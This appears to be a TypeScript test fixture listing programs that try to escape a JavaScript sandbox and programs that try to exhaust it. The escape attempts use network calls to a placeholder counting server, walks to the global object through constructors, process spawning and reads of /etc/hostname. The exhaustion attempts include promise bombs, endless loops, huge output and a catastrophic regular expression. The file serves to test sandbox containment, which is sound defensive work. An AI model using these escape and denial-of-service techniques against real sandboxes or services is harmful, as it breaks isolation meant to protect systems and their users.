/**
 * Programs that try to get out of the sandbox. `TARGET` is replaced by the address of a server that counts its
 * requests. A program prints `escaped` when it believes that it got out.
 */
interface Escape {
  readonly name: string;
  readonly code: string;
}

const attempt = (name: string, body: string): Escape => ({
  name,
  code: `try {\n${body}\n} catch (error) {\n  console.log('blocked:', error.message);\n}\nconsole.log('done');\n`,
});

/**
 * One program that makes all attempts, none of which waits for another: an attempt may never settle. It says of each
 * that it was tried.
 */
export const together = (escapes: readonly Escape[]): string =>
  `${escapes
    .map(
      ({ name, code }) =>
        `(async () => {\nconsole.log('tried: ${name}');\n${code}})().catch(() => {});\n`,
    )
    .join('')}`;

const GLOBAL = "const outer = Function('return this')();";

/** Programs that try to reach the network, storage or the page. */
export const REACHING: readonly Escape[] = [
  attempt('fetch', "await fetch('TARGET/fetch'); console.log('escaped');"),
  attempt(
    'fetch of the worker',
    `${GLOBAL} await outer.fetch('TARGET/fetch'); console.log('escaped');`,
  ),
  attempt(
    'fetch no-cors',
    `${GLOBAL} await outer.fetch('TARGET/no-cors', { mode: 'no-cors' }); console.log('escaped');`,
  ),
  attempt(
    'XMLHttpRequest',
    `${GLOBAL} const x = new outer.XMLHttpRequest(); x.open('GET', 'TARGET/xhr', false); x.send(); console.log('escaped');`,
  ),
  attempt('WebSocket', `${GLOBAL} new outer.WebSocket('TARGET/socket'.replace('http', 'ws'));`),
  attempt('EventSource', `${GLOBAL} new outer.EventSource('TARGET/events');`),
  attempt('WebTransport', `${GLOBAL} new outer.WebTransport('https://127.0.0.1:9/');`),
  attempt('RTCPeerConnection', `${GLOBAL} new outer.RTCPeerConnection(); console.log('escaped');`),
  attempt(
    'importScripts',
    `${GLOBAL} outer.importScripts('TARGET/script.js'); console.log('escaped');`,
  ),
  attempt('import()', "await import('TARGET/module.js'); console.log('escaped');"),
  attempt(
    'import() made from text',
    `${GLOBAL} await outer.Function("return import('TARGET/module.js')")(); console.log('escaped');`,
  ),
  attempt(
    'import() of data',
    `${GLOBAL} await outer.Function("return import('data:text/javascript,export default 1')")(); console.log('escaped');`,
  ),
  attempt('nested Worker', `${GLOBAL} new outer.Worker('TARGET/worker.js');`),
  attempt(
    'nested blob Worker',
    `${GLOBAL} const url = outer.URL.createObjectURL(new outer.Blob(["fetch('TARGET/nested')"])); new outer.Worker(url);`,
  ),
  attempt(
    'WebAssembly streaming',
    `${GLOBAL} await outer.WebAssembly.compileStreaming(outer.fetch('TARGET/x.wasm')); console.log('escaped');`,
  ),
  attempt(
    'sendBeacon',
    `${GLOBAL} if (outer.navigator.sendBeacon('TARGET/beacon', 'x')) console.log('escaped');`,
  ),
  attempt(
    'node-fetch outside',
    "const { default: f } = await import('node-fetch'); await f('TARGET/nf'); console.log('escaped');",
  ),
  attempt(
    'https of Node',
    "const { default: https } = await import('node:https'); https.get('https://127.0.0.1:9/');",
  ),
  attempt(
    'indexedDB',
    `${GLOBAL} const r = outer.indexedDB.open('x'); await new Promise((a, b) => { r.onsuccess = a; r.onerror = () => b(r.error); }); console.log('escaped');`,
  ),
  attempt('caches', `${GLOBAL} await outer.caches.open('x'); console.log('escaped');`),
  attempt(
    'localStorage',
    `${GLOBAL} outer.localStorage.setItem('x', '1'); console.log('escaped');`,
  ),
  attempt(
    'cookieStore',
    `${GLOBAL} await outer.cookieStore.set('x', '1'); console.log('escaped');`,
  ),
  attempt(
    'file system',
    `${GLOBAL} await outer.navigator.storage.getDirectory(); console.log('escaped');`,
  ),
  attempt('parent', `${GLOBAL} outer.parent.document.title = 'x'; console.log('escaped');`),
  attempt('top', `${GLOBAL} outer.top.location = 'TARGET/top'; console.log('escaped');`),
  attempt(
    'opener and frames',
    `${GLOBAL} outer.opener.frames[0].postMessage(1, '*'); console.log('escaped');`,
  ),
  attempt(
    'constructor walk',
    "const outer = [].constructor.constructor('return this')(); await outer.fetch('TARGET/walk'); console.log('escaped');",
  ),
  attempt(
    'constructor walk through Node',
    "const { default: http } = await import('node:http'); const outer = http.Agent.constructor('return this')(); await outer.fetch('TARGET/agent'); console.log('escaped');",
  ),
  attempt(
    'generator constructor',
    "const F = Object.getPrototypeOf(function* () {}).constructor; const outer = F('yield this')().next().value ?? globalThis; await outer.fetch('TARGET/gen'); console.log('escaped');",
  ),
  attempt('messages of its own', `${GLOBAL} outer.postMessage({ a: 1 }); console.log('escaped');`),
  attempt('process.binding', "process.binding('fs'); console.log('escaped');"),
  attempt(
    'child_process',
    "const { spawn } = await import('node:child_process'); spawn('id'); console.log('escaped');",
  ),
  attempt(
    'fs',
    "const { readFileSync } = await import('node:fs'); readFileSync('/etc/hostname'); console.log('escaped');",
  ),
];

/** Programs that never end, or never stop growing. Each must be ended, with a message that names the limit. */
export const ENDLESS: readonly Escape[] = [
  { name: 'infinite loop', code: 'for (;;);\n' },
  {
    name: 'promise bomb',
    code: 'const again = () => Promise.resolve().then(again);\nawait again();\n',
  },
  { name: 'await bomb', code: 'for (;;) await null;\n' },
  { name: 'nextTick bomb', code: 'const again = () => process.nextTick(again);\nagain();\n' },
  { name: 'setImmediate for ever', code: 'const again = () => setImmediate(again);\nagain();\n' },
  { name: 'setInterval for ever', code: 'setInterval(() => {}, 1000);\n' },
  { name: 'microtask bomb', code: 'const again = () => queueMicrotask(again);\nagain();\n' },
  {
    name: '100 MB of output',
    code: "for (let i = 0; i < 100; i++) console.log('x'.repeat(1e6));\n",
  },
  { name: 'one line of 100 MB', code: "console.log('x'.repeat(1e8));\n" },
  {
    name: 'unanswered request',
    code: "import net from 'node:net';\nconst s = net.connect(3000, '127.0.0.1');\ns.on('data', () => {});\nawait new Promise(() => {});\n",
  },
  {
    name: 'Atomics.wait',
    code: "const outer = Function('return this')();\ntry {\n  outer.Atomics.wait(new Int32Array(new outer.SharedArrayBuffer(4)), 0, 0);\n} catch {}\nfor (;;);\n",
  },
  { name: 'catastrophic regular expression', code: "/^(a+)+$/.test('a'.repeat(40) + 'b');\n" },
];
